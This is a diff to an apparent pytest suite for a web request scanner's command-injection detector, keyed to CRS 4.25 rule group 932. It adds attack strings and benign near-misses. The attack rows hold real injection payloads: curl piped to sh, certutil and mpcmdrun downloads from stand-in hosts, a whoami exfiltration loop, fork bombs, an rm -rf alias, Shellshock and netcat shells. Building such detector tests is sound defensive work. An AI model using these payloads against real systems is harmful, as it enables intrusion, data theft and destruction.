@@ -664,10 +664,117 @@ POC_BENIGN: list[tuple[str, str]] = [
 ]
 
 
-# Each list above is one batch of the round it came from (first-pass numbers were taken per batch); every attack must
-# raise an rce finding and every near-miss must leave the whole request clean.
-ALL_ATTACKS = ATTACKS + CLASS_ROWS + GTFO_LOLBAS_ATTACKS + POC_ATTACKS
-ALL_BENIGN = BENIGN + CLASS_BENIGN + GTFO_LOLBAS_BENIGN + POC_BENIGN
+# Round 3 (issue #4): CRS 4.25's 932 file as the checklist — the commands unix-shell.data (718 entries) and the
+# Windows lists of 932370/932380 (LOLBAS and Windows Server commands) added since 3.3.4, the cmdlet nouns of
+# windows-powershell-commands.data, the aliases of 932125, the shell builtins of unix-shell-builtins.data, and new
+# variants of the older classes. Payloads written for this round; see the round-3 report for the first pass.
+ROUND3_CLASSES: dict[str, list[tuple[str, str]]] = {
+    "932235/932260 unix-shell.data commands new in CRS 4": [
+        ("query", "x; mysqldump -u root --all-databases > /var/www/html/d.sql"),
+        ("form", "a.jpg && setcap cap_setuid+ep /usr/bin/python3"), ("json", ";getcap -r / 2>/dev/null"),
+        ("cookie", "x|blkid"), ("xml", "x; losetup -a"), ("custom", "x && lsb_release -a"), ("multipart", "x;lshw -short"),
+        ("query", "x;hostid"), ("form", "x`logname`"), ("json", "x; sudoedit /etc/sudoers"),
+        ("cookie", "x; setsid sh -c 'id>/tmp/o'"), ("xml", "x; htpasswd -b /etc/apache2/.htpasswd eve s3cret"),
+        ("custom", "x | zipinfo /tmp/a.zip"), ("query", "x;svnadmin dump /srv/svn/repo"),
+        ("form", "x; svn export http://198.51.100.2/r /tmp/r"), ("json", "x && rbash -c id"),
+        ("cookie", "x; xterm -display 198.51.100.2:1"), ("xml", "&& nping --tcp -p 445 10.0.0.5"),
+        ("custom", "x; dhclient -r eth0"), ("query", "x;mysqladmin -u root shutdown"),
+        ("form", "x; xzgrep root /var/log/auth.log.xz"), ("json", "x | pigz -dc /tmp/a.gz | sh"),
+        ("cookie", "x;rustup run stable sh"), ("xml", "x; chsh -s /bin/bash www-data"),
+        ("query", "x; groupmod -n wheel2 wheel"), ("form", "x;tailf /var/log/syslog"), ("json", "x; runc exec -t c1 sh"),
+        ("multipart", "x; sudoreplay -l"), ("ua", "Mozilla/5.0;mysqlshow -u root"),
+        ("referer", "http://e.example/?q=x;htdigest -c /tmp/h r u"),
+    ],
+    "932160 unix-shell.data variables": [
+        ("query", "x;echo $SHELL"), ("form", "cd ${HOME}; ls -la"), ("cookie", "x;${SHELL} -i"),
+        ("xml", "$OLDPWD/../../bin/sh"), ("json", "x; $SHELL -c id"),
+    ],
+    "932120 windows-powershell-commands.data cmdlets": [
+        ("query", "x; get-credential"), ("form", "x; stop-computer"), ("json", "x | export-csv c:\\users\\public\\p.csv"),
+        ("cookie", "x; clear-recyclebin"), ("xml", "x;restart-computer"),
+        ("custom", "x; invoke-wmimethod win32_process create calc.exe"), ("multipart", "x; enter-pssession dc01"),
+        ("query", "x; get-netadapter"), ("form", "x; get-acl c:\\ | sort-object owner"),
+        ("json", "x;remove-itemproperty hklm:\\software\\x y"), ("cookie", "x; add-localgroupmember administrators eve"),
+        ("xml", "x; get-hotfix"), ("query", "x; compress-archive c:\\users\\bob\\documents c:\\temp\\d.zip"),
+        ("json", "$(get-clipboard)"),
+    ],
+    "932125 powershell aliases": [
+        ("query", "x; gc c:\\windows\\win.ini"), ("json", "x;ni c:\\temp\\a.ps1 -value x"), ("xml", "x; gwmi win32_share"), ("custom", "x & ii c:\\windows\\system32\\calc.exe"),
+        ("multipart", "x; epcsv c:\\temp\\p.csv"), ("query", "x;rni c:\\inetpub\\wwwroot\\web.config web.bak"),
+        ("json", "x; rwmi win32_process"), ("cookie", "x;gdr -psprovider filesystem"),
+    ],
+    "932370/932380 windows commands new in CRS 4": [
+        ("query", "x & diskshadow /s c:\\temp\\s.txt"), ("form", "x & pnputil /enum-drivers"),
+        ("json", "x | mklink /d c:\\temp\\l \\\\10.0.0.1\\s"), ("cookie", "x & chkdsk c: /f"),
+        ("xml", "x && winrm quickconfig -q"),
+        ("custom", "x & mpcmdrun -downloadfile -url http://198.51.100.2/a.exe -path c:\\temp"),
+        ("multipart", "x & wsl -e id"), ("query", "x & doskey ls=dir"), ("form", "x & bginfo.exe bg.bgi /popup /nolicprompt"),
+        ("cookie", "x|repadmin /showrepl"), ("xml", "x & sfc /scannow"), ("custom", "x & logman query"),
+        ("query", "x & winget install --id x.y --silent"), ("form", "x & gpupdate /force"), ("json", "x & ftype htafile"),
+        ("cookie", "x & tzutil /g"), ("xml", "x && msxsl.exe c.xml c.xsl"),
+        ("custom", "x & createdump -f c:\\temp\\d.dmp 672"), ("multipart", "x & dnscmd /zoneexport corp.local z.txt"),
+    ],
+    "932230/932231 unix-shell-builtins.data": [
+        ("query", "x;zmodload zsh/system"), ("form", "x; coproc nc 10.0.0.5 4444"), ("json", "x;setenv PATH /tmp:$PATH"),
+        ("cookie", "x; function f { id; }; f"), ("xml", "x; repeat 3 id"), ("custom", "x; command -v python3"),
+    ],
+    "932390/932140/932175/932330/932280 older classes, new variants": [
+        ("query", "b(){ b|b& };b"), ("form", "x; f(){ f|f & }; f"),
+        ("json", "for /f \"delims=\" %a in ('whoami') do curl http://e.example/%a"),
+        ("cookie", "if not exist c:\\temp\\a.exe certutil -urlcache -f http://e.example/a c:\\temp\\a.exe"),
+        ("xml", ";alias -- ls='rm -rf ~'"), ("custom", "x; alias cd='sh'"), ("query", "x && !-3"),
+        ("form", "{cat,/etc/hostname}"), ("json", "x;{curl,-s,e.example/a}|sh"), ("xml", "x;l=id;$l"),
+    ],
+    "932236/932161 more CRS 4 names in other carriers (second batch)": [
+        ("path", "x;zipgrep -i pass /tmp/a.zip"), ("query2", "x|mysqldumpslow -s t"), ("json_u", "x && svnlook cat /srv/r x"),
+        ("b64json", "x; netplan apply"), ("ua", "() { :;}; /usr/bin/pigz -d /tmp/x"), ("header", "x;perl5 -e 'exec \"sh\"'"),
+        ("xml_attr", "x\nsetsid -f sh -i"), ("form", "x & appinstaller.exe ms-appinstaller:?source=http://e.example/a"),
+        ("query", "x & conhost.exe --headless calc"), ("json", "x | wecutil es"), ("cookie", "x & ktpass /out c:\\t\\k.keytab"),
+        ("custom", "x; Get-ScheduledJob | Unregister-ScheduledJob"),
+    ],
+}
+ROUND3_ATTACKS = [row for rows in ROUND3_CLASSES.values() for row in rows]
+# The same words as English, abbreviations, product names, and searches about the tools.
+ROUND3_BENIGN: list[tuple[str, str]] = [
+    ("form", "Bluetooth; GPS; WiFi"), ("query", "GPS | Maps"), ("form", "gc: 12; hp: 40"), ("query", "GBP | EUR | USD"),
+    ("form", "CPI; inflation; rates"), ("query", "C++ | cpp | rust"), ("form", "GMO free; organic"),
+    ("query", "Excel; Word; PowerPoint"), ("form", "print | share | save"), ("query", "remote; hybrid; on-site"),
+    ("form", "update; upgrade"), ("query", "SVN vs git"), ("query", "mysqldump tutorial"), ("query", "htpasswd generator"),
+    ("form", "xterm colors"), ("query", "wireshark download"), ("query", "chkdsk command"), ("form", "sfc scannow meaning"),
+    ("query", "winget vs chocolatey"), ("form", "WSL; Docker; VS Code"), ("query", "wsl install ubuntu"),
+    ("form", "java; python; go"), ("form", "Skills: Java, Python, Go"), ("query", "ready; set; go"), ("form", "la la land"),
+    ("query", "Los Angeles, LA | San Diego"), ("form", "hash browns; eggs"), ("query", "function of the liver"),
+    ("form", "Alpine skiing; snowboarding"), ("query", "command center | ops"), ("form", "red; green; blue"),
+    ("query", "rename file"), ("form", "arch linux | manjaro"), ("query", "repeat order | reorder"),
+    ("form", "Get-Credential docs"), ("query", "stop computer from sleeping"), ("form", "Enter-PSSession example"),
+    ("query", "sort-object by date"), ("form", "Export-Csv append"), ("query", "test-netconnection port"),
+    ("form", "x-large; xx-large"), ("query", "mmc snap-in"), ("form", "sales tax; gst"), ("query", "setenv vs export"),
+    ("query", "dhclient release"), ("form", "lshw output explained"), ("query", "mklink vs junction"),
+    ("form", "Print; Scan; Fax"), ("query", "ogv to mp4"), ("form", "GI Joe; GL Class"), ("query", "ni no kuni"),
+    ("form", "Gal Gadot; Wonder Woman"), ("query", "ft lauderdale | miami"), ("form", "FL; GA; SC"),
+    ("query", "cls aston martin"), ("form", "rp; hp; mp"), ("query", "chcp 65001 meaning"),
+    ("form", "logoff screen; lock screen"), ("query", "perfmon counters"), ("form", "mstsc fullscreen"),
+    ("form", "Pigz is faster than gzip"), ("query", "rustup update"), ("form", "Sort: price | rating"),
+    ("form", "Shell; BP; Exxon"), ("query", "home; shell; path"), ("form", "Repeat customer? yes | no"),
+    ("form", "builtin oven; dishwasher"), ("query", "wt: 5 kg | ht: 180 cm"), ("form", "San Jose | San Mateo"),
+    ("query", "CSC; CSI Miami"), ("form", "PSR J0437-4715"), ("query", "gpt-4 vs claude"),
+    ("form", "ii. Methods; iii. Results"), ("query", "Regini Sheffield"), ("form", "desk lamp | chair"),
+    ("json", "Let me check with the team; hostid is on the invoice"), ("form", "Rename; Delete; Share"),
+    ("query", "Starters; Mains; Desserts"), ("form", "Ruby; Perl; Rust; Haskell"), ("query", "Rust | Go | Zig"), ("form", "PHP, Node, and Raku"), ("form", "git svn clone"), ("query", "get-hotfix remote computer"),
+]
+
+
+def test_round3_sets_are_distinct():
+    assert len(set(ROUND3_ATTACKS)) == len(ROUND3_ATTACKS) >= 100
+    assert len(set(ROUND3_BENIGN)) == len(ROUND3_BENIGN) >= 80
+    assert not set(ROUND3_BENIGN) & set(BENIGN + CLASS_BENIGN + GTFO_LOLBAS_BENIGN + POC_BENIGN)
+
+
+# Each list above is one batch of the round it came from (first-pass numbers were taken per batch; round 3 used CRS
+# 4.25's 932 file as the checklist); every attack must raise an rce finding and every near-miss must leave the whole
+# request clean.
+ALL_ATTACKS = ATTACKS + CLASS_ROWS + GTFO_LOLBAS_ATTACKS + POC_ATTACKS + ROUND3_ATTACKS
+ALL_BENIGN = BENIGN + CLASS_BENIGN + GTFO_LOLBAS_BENIGN + POC_BENIGN + ROUND3_BENIGN
 
 
 @pytest.mark.parametrize("row", ALL_ATTACKS, ids=_label)
